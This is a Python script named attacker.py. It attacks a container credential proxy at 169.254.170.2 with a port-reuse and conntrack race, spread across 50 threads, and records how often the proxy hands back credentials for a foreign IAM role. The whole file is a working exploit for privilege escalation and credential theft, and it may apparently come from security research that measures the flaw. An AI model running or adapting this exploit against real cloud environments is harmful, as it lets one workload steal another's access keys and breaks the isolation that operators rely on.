"""
Asks 169.254.170.2 until the kernel mistakes it for somebody else: attacker.py TRIES OWN-PORT PATH OWN-ROLE FOREIGN-ROLE.

A connection from the same source port straight to the intercepted listener takes the tuple that the redirect would use, so
conntrack gives each of these connections another source port, at random. Prints what the answers were, as JSON.
"""

import collections
import json
import socket
import struct
import sys
import threading
import time

AGENT = ("169.254.170.2", 80)
tries, own_port, path, own_role, foreign_role = int(sys.argv[1]), int(sys.argv[2]), *sys.argv[3:6]
seen = collections.Counter()
started = time.monotonic()


def bound(port):
    connection = socket.socket()
    connection.settimeout(10)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.bind((source, port))
    return connection


def answer(connection):
    connection.connect(AGENT)
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: {AGENT[0]}\r\nConnection: close\r\n\r\n".encode())
    text = b""
    while piece := connection.recv(65536):
        text += piece
    return text.decode()


def kind(text):
    if f":role/{foreign_role}\"" in text:
        return "foreign"
    if f":role/{own_role}\"" in text:
        return "own"
    if "NotIntercepted" in text:
        return "rejected"
    return "agent" if "AccessKeyId" in text else "other"


with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
    probe.connect(AGENT)
    source = probe.getsockname()[0]

first = None
numbers = iter(range(1, tries + 1))
lock = threading.Lock()


def attack():
    """Renews what takes the tuple before the sidecar closes it, since it asks for nothing."""
    global first
    occupier, since = None, 0.0

    while True:
        with lock:
            if (number := next(numbers, None)) is None:
                return

        try:
            if occupier is None or time.monotonic() - since > 1:
                if occupier:
                    occupier.close()
                occupier, since = bound(0), time.monotonic()
                occupier.connect(("127.0.0.1", own_port))

            with bound(occupier.getsockname()[1]) as connection:
                result = kind(answer(connection))
        except OSError as e:
            result = type(e).__name__

        with lock:
            seen[result] += 1
            if result in ("foreign", "agent") and first is None:
                first = {"try": number, "seconds": round(time.monotonic() - started, 3)}


# Each from a port of its own, since a rejection may be answered late.
workers = [threading.Thread(target=attack) for _ in range(50)]
for worker in workers:
    worker.start()
for worker in workers:
    worker.join()

print(json.dumps({"first": first, "seconds": round(time.monotonic() - started, 1), **seen}))
